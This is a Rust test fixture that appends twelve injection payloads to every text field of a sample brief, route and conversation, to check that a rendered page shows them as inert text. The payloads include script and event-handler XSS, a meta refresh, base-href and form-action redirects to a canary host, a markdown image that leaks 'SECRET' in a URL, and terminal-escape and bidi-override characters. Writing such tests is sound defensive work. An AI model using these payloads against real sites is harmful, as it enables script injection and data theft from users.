//! A brief in which every text from outside attacks the page it is shown on:
//! the sample brief, with an attack appended to each of its strings.

use baton::brief::Brief;
use baton::conversation::Conversation;
use baton::route::{self, Route};
use serde_json::Value as Json;

/// Each must stand on the page as text and do nothing.
pub const ATTACKS: [&str; 12] = [
    "<script>alert('canary')</script>",
    "<img src=x onerror=alert(1)><img src=http://canary.example/q.png>",
    "\"><svg onload=alert(2)>",
    "' onmouseover='alert(3)' autofocus onfocus='alert(4)",
    "</title></style></script><script src=//canary.example/a.js></script>",
    "<meta http-equiv=refresh content=0;url=http://canary.example/>",
    "<base href=http://canary.example/><link rel=stylesheet href=//canary.example/a.css>",
    "javascript:alert(5) data:text/html,<script>alert(6)</script> http://canary.example/",
    "<form action=http://canary.example/><input autofocus></form><iframe src=//canary.example></iframe>",
    "{{7*7}} ${7*7} ![x](http://canary.example/?q=SECRET)",
    "\u{1b}[2J\u{1b}]8;;http://canary.example\u{7}link\u{202e}gnp.exe\u{2066}\u{200b}\u{feff}\0",
    "--><!-- ]]> <![CDATA[ &lt;b&gt; &#60;script&#62;",
];

/// Keys whose text has a meaning of its own and cannot be anything.
const OURS: [&str; 17] = [
    "state", "origin", "message", "tier", "kind", "side", "at", "role", "verdict", "id", "messages", "document",
    "reply_to", "same_as", "zone", "field", "due",
];

/// The sample with `attack` in every text.
pub fn hostile(attack: &str) -> (Brief, Route, Conversation) {
    let mut brief: Json = serde_json::from_str(include_str!("brief.json")).expect("the sample brief");
    let mut conversation: Json =
        serde_json::from_str(include_str!("conversation.json")).expect("the sample conversation");
    poison(&mut brief, attack);
    poison(&mut conversation, attack);
    let mut route = route::load("route.yaml", include_str!("route.yaml")).expect("the sample route");
    route.title.push_str(attack);
    route.from_team.push_str(attack);
    route.to_team.push_str(attack);
    for field in &mut route.fields {
        field.label.push_str(attack);
    }
    let brief = serde_json::from_value(brief).expect("still a brief");
    (brief, route, serde_json::from_value(conversation).expect("still a conversation"))
}

fn poison(json: &mut Json, attack: &str) {
    match json {
        Json::String(text) => text.push_str(attack),
        Json::Array(items) => items.iter_mut().for_each(|item| poison(item, attack)),
        Json::Object(entries) => {
            let is_warning = entries.contains_key("where");
            for (key, value) in entries.iter_mut() {
                if !OURS.contains(&key.as_str()) || is_warning && key == "message" {
                    poison(value, attack);
                }
            }
        }
        _ => {}
    }
}
